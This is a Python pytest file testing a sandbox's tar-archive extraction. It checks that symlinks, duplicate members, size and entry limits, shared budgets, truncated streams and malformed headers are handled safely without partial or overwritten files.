    assert (dest / "file").read_text() == "not a dir"
    assert result.written == [str(dest / "ok.txt")]
    assert [(s.path, s.reason) for s in result.skipped] == [
        ("out/a.txt", "a symlink on the host is in the way"),
        ("out/sub/b.txt", "a symlink on the host is in the way"),
        ("out", "a symlink on the host is in the way"),
        ("leaf.txt", "already exists"),
        ("file/x.txt", "a file on the host is in the way")]


def test_duplicate_member_does_not_overwrite(tmp_path):
    result, dest = extract(tmp_path, tar_bytes(member("a.txt", b"first"), member("a.txt", b"second")))
    assert (dest / "a.txt").read_bytes() == b"first"
    assert reasons(result.skipped) == ["already exists"]


def test_byte_limit_skips_what_does_not_fit_and_takes_what_still_does(tmp_path):
    """A new-user test: a big log asked for first cost every small report after it."""
    data = tar_bytes(member("a", b"a" * 400), member("b", b"b" * 400), member("c", b"c" * 400),
                     member("d", b"d"), member("e", type=tarfile.DIRTYPE))
    result, dest = extract(tmp_path, data, max_bytes=1000)
    assert tree(dest) == ["a", "b", "d", "e"] and result.total_bytes == 801
    assert [(s.path, s.reason) for s in result.skipped] == [("c", "over the 1000-byte limit with the files "
                                                                  "collected before it")]


def test_a_member_over_a_small_limit_leaves_the_smaller_ones_after_it(tmp_path):
    """With --max-files-size 2k, one 3,000-byte file ended the reading: the small ones after it were lost, where
    the docs say they are still collected (a new user's test). Skipped data is read past up to a floor."""
    data = tar_bytes(member("big", b"b" * 3000), *(member(f"s{i}", b"ss") for i in range(5)))
    result, dest = extract(tmp_path, data, max_bytes=2048)
    assert tree(dest) == ["s0", "s1", "s2", "s3", "s4"]
    assert [(s.path, s.reason) for s in result.skipped] == [("big", "over the 2048-byte limit")]


def test_huge_member_over_the_limit_ends_the_reading(tmp_path, monkeypatch):
    from pid.sandbox import artifacts
    monkeypatch.setattr(artifacts, "PASS_OVER_AT_LEAST", 2 << 20)   # (64 MiB: a test of that size reads slowly)
    data = tar_bytes(member("small", b"s"), member("huge", b"h" * (3 << 20)), member("later", b"l"))
    result, dest = extract(tmp_path, data, max_bytes=1 << 20)
    assert tree(dest) == ["small"]
    assert [(s.path, s.reason) for s in result.skipped] == [
        ("huge", "over the 1 MB limit"), ("…", "rest of the archive not read")]


def test_entry_limit_with_a_5k_member_archive_keeps_the_list_bounded(tmp_path):
    # 5,000 members kept in memory would peak near 5 MB; read one at a time, the peak stays near 0.2 MB
    chunks = chunked(tar_bytes(*(member(f"f{i:05}", b"") for i in range(5000))), 1 << 20)
    dest = tmp_path / "dest"
    tracemalloc.start()
    try:
        result = extract_files(chunks, str(dest), max_bytes=1 << 20, max_entries=10)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 2 << 20, f"peak {peak} bytes: members are being kept"
    assert len(os.listdir(dest)) == 10 and len(result.written) == 10
    assert len(result.skipped) == 101
    assert result.skipped[0] == Skipped("f00010", "over the 10-entry limit")
    assert result.skipped[-1] == Skipped("…", "and 4890 more skipped")


def test_parent_directories_count_as_entries(tmp_path):
    result, dest = extract(tmp_path, tar_bytes(member("a/b/c/d.txt", b"x")), max_entries=2)
    assert tree(dest) == ["a", "a/b"]
    assert reasons(result.skipped) == ["over the 2-entry limit"]


def test_a_file_over_the_shared_byte_budget_costs_no_later_call(tmp_path):
    budget = FilesBudget(max_bytes=1000, max_entries=10)
    big = extract_files([tar_bytes(member("big.log", b"x" * 3000))], str(tmp_path / "one"),
                        max_bytes=0, max_entries=0, budget=budget)
    small = extract_files([tar_bytes(member("report.txt", b"ok"))], str(tmp_path / "two"),
                          max_bytes=0, max_entries=0, budget=budget)
    assert reasons(big.skipped)[0] == "over the 1000-byte limit" and big.written == []
    assert small.skipped == [] and (tmp_path / "two" / "report.txt").read_bytes() == b"ok"
    assert (budget.used_bytes, budget.used_entries, budget.stopped) == (2, 1, None)


def test_budget_is_shared_across_calls(tmp_path):
    budget = FilesBudget(max_bytes=1000, max_entries=3)
    first = extract_files([tar_bytes(member("a", b"1"), member("b", b"2"))], str(tmp_path / "one"),
                          max_bytes=0, max_entries=0, budget=budget)
    second = extract_files([tar_bytes(member("c", b"3"), member("d", b"4"))], str(tmp_path / "two"),
                           max_bytes=0, max_entries=0, budget=budget)
    third = extract_files([tar_bytes(member("e", b"5"))], str(tmp_path / "three"),
                          max_bytes=0, max_entries=0, budget=budget)
    assert len(first.written) == 2 and len(second.written) == 1 and third.written == []
    assert reasons(second.skipped) == ["over the 3-entry limit"]
    assert reasons(third.skipped) == ["over the 3-entry limit"]
    assert (budget.used_bytes, budget.used_entries) == (3, 3)


def test_stream_cut_short_leaves_no_partial_file(tmp_path):
    data = tar_bytes(member("small.txt", b"small"), member("big.txt", os.urandom(100_000)))
    result, dest = extract(tmp_path, data[:3 * 512 + 50_000], chunk=999)
    assert tree(dest) == ["small.txt"]
    assert result.skipped == [Skipped("big.txt", "archive cut short")]


def test_stream_error_mid_member_leaves_no_partial_file(tmp_path):
    data = tar_bytes(member("big.txt", os.urandom(600_000)))

    def stream():
        yield data[:300_000]
        raise ConnectionError("connection reset")

    dest = tmp_path / "dest"
    with pytest.raises(ConnectionError):
        extract_files(stream(), str(dest), max_bytes=1 << 20, max_entries=10)
    assert os.listdir(dest) == []


def test_oversized_extended_header_is_refused(tmp_path):
    info, data = member("x.txt", b"x")
    info.pax_headers = {"comment": "c" * (20 << 10)}
    result, dest = extract(tmp_path, tar_bytes(member("first.txt", b"1"), (info, data)))
    assert tree(dest) == ["first.txt"]
    assert [s.path for s in result.skipped] == ["(archive)"]
    assert "extended header over" in result.skipped[0].reason


def test_sparse_members_are_refused(tmp_path):
    raw = bytearray(tar_bytes(member("sparse", b"s" * 10), format=tarfile.GNU_FORMAT))
    raw[156:157] = tarfile.GNUTYPE_SPARSE
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    result, dest = extract(tmp_path, bytes(raw))
    assert os.listdir(dest) == []
    assert reasons(result.skipped) == ["unreadable archive: sparse members are not supported"]


def test_negative_member_size_is_refused(tmp_path):
    raw = bytearray(tar_bytes(member("first.txt", b"1"), member("neg", b""), format=tarfile.GNU_FORMAT))
    header = slice(1024, 1536)
    block = raw[header]
    block[124:136] = b"\xff" * 12                     # base-256: -1
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    raw[header] = block
    result, dest = extract(tmp_path, bytes(raw))
    assert os.listdir(dest) == ["first.txt"]
    assert reasons(result.skipped) == ["unreadable archive: negative member size"]


def test_negative_size_from_a_pax_header_is_refused(tmp_path):
    info, data = member("neg", b"")
    info.pax_headers = {"size": "-1"}
    result, dest = extract(tmp_path, tar_bytes(member("first.txt", b"1"), (info, data)))
    assert os.listdir(dest) == ["first.txt"]
    assert reasons(result.skipped) == ["unreadable archive: negative member size"]


@pytest.mark.skipif(not artifacts._PAX_SEARCH_BACKTRACKS, reason="this Python's tarfile has no quadratic pax search")
def test_pax_header_with_a_long_digit_run_is_refused(tmp_path):
    info, data = member("x.txt", b"x")
    info.pax_headers = {"comment": "1" * 600}
    result, dest = extract(tmp_path, tar_bytes((info, data)))
    assert os.listdir(dest) == []
    assert "512 digits" in result.skipped[0].reason
